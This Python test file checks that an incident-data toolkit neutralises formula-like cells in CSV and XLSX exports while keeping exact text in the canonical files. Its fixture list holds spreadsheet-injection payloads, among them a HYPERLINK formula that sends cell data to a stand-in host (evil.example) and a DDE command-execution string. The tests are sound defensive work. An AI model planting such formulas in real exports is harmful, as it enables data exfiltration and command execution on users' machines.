"""Spreadsheet-safe export: formula-like cells neutralised in CSV/XLSX, canonical files keep exact text."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from incidentkit.cli import main
from incidentkit.dataset import read_table
from incidentkit.export import neutralise, write_acled, write_spreadsheet
from incidentkit.export.acled import ACLED_COLUMNS

REPO = Path(__file__).resolve().parents[1]
GOLDEN = REPO / "tests" / "data" / "golden" / "v0.1.0"
# What a coder pastes from reports and wire copy, and what an attacker plants in a note.
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Source: SOHR\")",
    "+963 11 2234567 (SOHR hotline) reported 3 killed",
    "-5 killed according to the army, later revised",
    "@SOHR on X: clashes continue in Ghwayran",
    "\t=cmd|' /C calc'!A0",
    "\r\nUpdated: the toll \"may rise\"",
    "=1+1; قتل ٣ مدنيين",
]


@pytest.fixture()
def hostile_table() -> pa.Table:
    table = read_table(GOLDEN)
    notes = HOSTILE[: table.num_rows]
    table = table.set_column(table.schema.get_field_index("notes"), table.schema.field("notes"), pa.array(notes))
    actors = [["=SUM(A1:A9)", "Asayish"], [], ["-QSD"], []]
    return table.set_column(table.schema.get_field_index("assoc_actor_1"), table.schema.field("assoc_actor_1"),
                            pa.array(actors, pa.list_(pa.string())))


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_prefixes_every_dangerous_start(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["On 12 March 2023, gunmen shot two civilians.", "درعا البلد", "Ödeshög", ""])
def test_plain_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_csv_cells_are_neutralised_and_unicode_kept(hostile_table: pa.Table, tmp_path: Path) -> None:
    path = tmp_path / "incidents.csv"
    write_spreadsheet(hostile_table, path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")           # BOM: Excel reads UTF-8
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))
    assert [r["notes"] for r in rows] == ["'" + h for h in HOSTILE[: len(rows)]]
    assert rows[0]["assoc_actor_1"] == "'=SUM(A1:A9); Asayish" and rows[2]["assoc_actor_1"] == "'-QSD"
    assert rows[1]["location"] == "Dar'a - درعا البلد"
    assert rows[0]["latitude"] == "35.4681" and rows[0]["date_start"] == "2023-03-05"
    dangerous = ("=", "+", "-", "@", "\t", "\r", "\n")
    numeric = {"latitude", "longitude", "geo_score"}
    assert not any(v.startswith(dangerous) for r in rows for k, v in r.items() if k not in numeric)


def test_xlsx_has_no_formula_and_is_deterministic(hostile_table: pa.Table, tmp_path: Path) -> None:
    write_spreadsheet(hostile_table, tmp_path / "a.xlsx")
    write_spreadsheet(hostile_table, tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    ws = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    notes = [row[header.index("notes")].value for row in ws.iter_rows(min_row=2)]
    assert notes == ["'" + h for h in HOSTILE[: len(notes)]]
    lat = [row[header.index("latitude")].value for row in ws.iter_rows(min_row=2)]
    assert lat[0] == 35.4681                                       # numbers stay numbers


def test_canonical_outputs_keep_the_exact_text(hostile_table: pa.Table, tmp_path: Path) -> None:
    write_acled(hostile_table, tmp_path)
    rows = list(csv.DictReader((tmp_path / "acled.csv").open(encoding="utf-8", newline="")))
    assert list(rows[0]) == list(ACLED_COLUMNS)
    notes = pq.read_table(tmp_path / "acled.parquet").column("notes").to_pylist()
    assert notes[0].startswith(HOSTILE[0]) and rows[0]["notes"].startswith(HOSTILE[0])
    assert rows[-1]["notes"] == notes[-1]


def test_cli_rejects_an_unknown_suffix(tmp_path: Path) -> None:
    res = CliRunner().invoke(main, ["export", "spreadsheet", "--dataset", str(GOLDEN), "-o", str(tmp_path / "x.ods")])
    assert res.exit_code == 2 and "written as .csv or .xlsx" in res.output
    ok = CliRunner().invoke(main, ["export", "spreadsheet", "--dataset", str(GOLDEN), "-o", str(tmp_path / "x.xlsx")])
    assert ok.exit_code == 0 and (tmp_path / "x.xlsx").exists()
